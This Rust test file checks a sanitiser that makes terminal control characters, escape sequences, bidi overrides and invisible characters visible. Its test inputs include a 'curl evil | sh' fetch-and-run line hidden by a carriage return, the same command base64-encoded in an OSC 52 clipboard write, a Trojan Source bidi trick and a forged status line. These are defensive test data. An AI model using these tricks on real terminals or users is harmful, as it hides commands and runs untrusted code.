use std::borrow::Cow;

use super::{json_visible, visible, visible_line, visible_log};

/// Whether a terminal would act on `c` or not draw it.
fn acts_or_hides(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || super::is_hidden(c)
}

#[test]
fn every_c0_control_but_newline_and_tab_is_shown_in_caret_notation() {
    for byte in 0_u8..0x20 {
        let c = char::from(byte);
        let shown = visible(&c.to_string()).into_owned();
        if c == '\n' || c == '\t' {
            assert_eq!(shown, c.to_string());
        } else {
            assert_eq!(
                shown,
                format!("^{}", char::from(byte + 0x40)),
                "byte {byte:#04x}"
            );
        }
    }
    assert_eq!(visible("\u{0}\u{7}\u{8}\r\u{1b}"), "^@^G^H^M^[");
    assert_eq!(visible("\u{7f}"), "^?");
}

#[test]
fn every_c1_control_is_shown_as_its_code_point() {
    for code in 0x80_u32..0xA0 {
        let c = char::from_u32(code).expect("a C1 control is a char");
        assert_eq!(visible(&c.to_string()), format!("<U+{code:04X}>"));
    }
    assert_eq!(visible("\u{9b}2Kok"), "<U+009B>2Kok", "8-bit CSI");
    assert_eq!(
        visible("\u{9d}52;c;aGk=\u{9c}"),
        "<U+009D>52;c;aGk=<U+009C>",
        "8-bit OSC"
    );
}

#[test]
fn escape_sequences_lose_their_escape_and_keep_their_text() {
    assert_eq!(
        visible("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"),
        "^[]52;c;Y3VybCBldmlsIHwgc2g=^G",
        "OSC 52 clipboard write"
    );
    assert_eq!(visible("\x1b]0;pwned\x07"), "^[]0;pwned^G", "window title");
    assert_eq!(
        visible("\x1b]0;pwned\x1b\\"),
        "^[]0;pwned^[\\",
        "ST-terminated"
    );
    assert_eq!(
        visible("\x1b[2K\x1b[1A\x1b[H"),
        "^[[2K^[[1A^[[H",
        "erase and cursor"
    );
    assert_eq!(
        visible("\x1b[31mred\x1b[0m"),
        "^[[31mred^[[0m",
        "a job's colours"
    );
}

#[test]
fn a_carriage_return_cannot_hide_the_start_of_a_line() {
    assert_eq!(
        visible("curl evil | sh\r\x1b[2Kharmless\n"),
        "curl evil | sh^M^[[2Kharmless\n"
    );
    assert_eq!(visible("a\r\nb"), "a^M\nb");
    assert_eq!(visible("echo ok\u{8}\u{8}\u{8}"), "echo ok^H^H^H");
}

#[test]
fn bidi_controls_and_invisible_format_characters_are_shown() {
    for code in (0x202A..=0x202E).chain(0x2066..=0x2069) {
        let c = char::from_u32(code).expect("bidi control");
        assert_eq!(visible(&format!("a{c}b")), format!("a<U+{code:04X}>b"));
    }
    assert_eq!(
        visible("if access_level != \"user\u{202E} \u{2066}// Check if admin\u{2069} \u{2066}\""),
        "if access_level != \"user<U+202E> <U+2066>// Check if admin<U+2069> <U+2066>\""
    );
    for hidden in [
        '\u{200B}',
        '\u{200E}',
        '\u{200F}',
        '\u{061C}',
        '\u{2060}',
        '\u{FEFF}',
        '\u{00AD}',
        '\u{2028}',
        '\u{2029}',
        '\u{E0001}',
        '\u{E0041}',
        '\u{E007F}',
    ] {
        let shown = visible(&hidden.to_string()).into_owned();
        assert_eq!(shown, format!("<U+{:04X}>", u32::from(hidden)));
    }
}

#[test]
fn text_without_controls_is_borrowed_unchanged() {
    let text = "héllo wörld, 世界 🦀 — ok\tcolumn\nnext line ^ [ <U+0041>\n";
    let shown = visible(text);
    assert!(matches!(shown, Cow::Borrowed(_)));
    assert_eq!(shown, text);
    assert_eq!(visible("é\u{1b}世"), "é^[世", "multibyte around an escape");
}

#[test]
fn nothing_a_terminal_acts_on_survives_and_showing_twice_changes_nothing() {
    let every: String = ('\0'..=char::MAX).collect();
    let shown = visible(&every);
    assert!(!shown.chars().any(acts_or_hides), "a control survived");
    assert_eq!(visible(&shown), shown, "idempotent");
    for c in every.chars().filter(|c| !acts_or_hides(*c)) {
        assert_eq!(
            visible(&c.to_string()),
            c.to_string(),
            "{:#x} kept",
            u32::from(c)
        );
    }
}

#[test]
fn json_keeps_its_value_and_loses_what_a_terminal_acts_on() {
    let text = "a\x1b]52;c;eA==\x07 \r\x1b[2K \u{7f} \u{9b}2K \u{202E}rtl \u{E0041} é 🦀\n";
    let json = serde_json::to_string(&serde_json::json!({"text": text})).expect("encode");
    let shown = json_visible(&json);
    assert!(!shown.chars().any(acts_or_hides), "{shown}");
    assert!(
        shown.contains(r"\u009b") && shown.contains(r"\u202e"),
        "{shown}"
    );
    assert!(
        shown.contains(r"\udb40\udc41"),
        "a tag character as a surrogate pair: {shown}"
    );
    let back: serde_json::Value = serde_json::from_str(&shown).expect("still JSON");
    assert_eq!(back["text"], text, "the same value");
    let plain = r#"{"text":"é 🦀 ok"}"#;
    assert!(matches!(json_visible(plain), Cow::Borrowed(_)));
}

#[test]
fn a_one_line_field_shows_its_newlines_so_it_cannot_forge_a_line() {
    assert_eq!(
        visible_line("nope\ncorral: j-1 succeeded\r\x1b[2K"),
        "nope^Jcorral: j-1 succeeded^M^[[2K"
    );
    assert_eq!(visible_line("a\tb"), "a\tb", "a tab stays");
    assert_eq!(
        visible(&visible_line("x\ny")),
        "x^Jy",
        "visible after it changes nothing"
    );
}

#[test]
fn a_log_line_keeps_its_formatters_colours_and_shows_everything_else() {
    assert_eq!(
        visible_log("\x1b[2mtime\x1b[0m \x1b[32m INFO\x1b[0m image=a\rb\u{202E}c\u{0}\n"),
        "\x1b[2mtime\x1b[0m \x1b[32m INFO\x1b[0m image=a^Mb<U+202E>c^@\n"
    );
    assert_eq!(
        visible_log("image=\x1b]0;t\x07 \x1b[8mhidden\x1b[2K\x1b[1;31m\x1b\n"),
        "image=^[]0;t^G ^[[8mhidden^[[2K^[[1;31m^[\n",
        "a value's escapes: title, conceal, erase, a colour not the formatter's"
    );
    assert!(matches!(visible_log("plain line\n"), Cow::Borrowed(_)));
}
